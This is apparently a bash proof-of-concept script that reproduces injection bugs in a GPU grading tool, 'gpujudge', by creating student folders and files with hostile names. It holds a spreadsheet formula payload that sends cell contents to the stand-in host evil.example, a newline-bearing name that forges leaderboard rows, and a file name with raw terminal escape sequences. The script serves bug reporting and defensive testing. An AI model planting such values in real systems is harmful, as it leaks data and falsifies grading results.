#!/bin/bash
# Repro: student-controlled folder/file names injected into gradebook.csv (formulas), summary.md /
# leaderboard.md (newlines forge rows; raw ESC bytes reach the grader's terminal via the printed summary).
set -e
WT=$(cd "$(dirname "$0")/.." && pwd)
T=$(mktemp -d /tmp/rt-grade.XXXX)
C=$T/class
mkdir -p "$C/alice"
cp $WT/tests/fixtures/host_solutions/correct.cpp "$C/alice/tiny_sum.cpp"
# (1) CSV formula injection: a folder name starting with '='
mkdir -p "$C/=HYPERLINK(\"http:\\\\evil.example\\?\"&A1,\"click\")"
cp $WT/tests/fixtures/host_solutions/correct.cpp "$C/=HYPERLINK(\"http:\\\\evil.example\\?\"&A1,\"click\")/tiny_sum.cpp"
# (2) newline in a student folder name: forges a leaderboard row / summary lines
M=$'mallory |  |  |  |  |  |\n| 1 | carol (forged) | 0.0 | 9999.0 | 100.0 | 99.00 | gpu0'
mkdir -p "$C/$M"
cp $WT/tests/fixtures/host_solutions/correct.cpp "$C/$M/tiny_sum.cpp"
# (3) terminal escapes + newline in a non-source file name: printed raw in the summary
touch "$C/alice/"$'\e]0;PWNED-TITLE\a\e[2J\e[31mnote\n## Byte-identical sources\n\n- tiny_sum: alice, bob'
env GPUJUDGE_DATA_DIR=$T/data GPUJUDGE_CACHE_DIR=$T/cache $WT/build/bin/gpujudge --color never \
  --home $WT/tests/fixtures --backend host grade "$C" --out $T/run > $T/stdout 2>&1 || echo "exit $?"
echo "== gradebook.csv"; cat $T/run/gradebook.csv
echo "== leaderboard.md"; cat $T/run/leaderboard.md
echo "== raw ESC bytes on grade's stdout:"; grep -c $'\e' $T/stdout || true
echo "== stdout (cat -v)"; cat -v $T/stdout | tail -20
echo "tmp: $T"
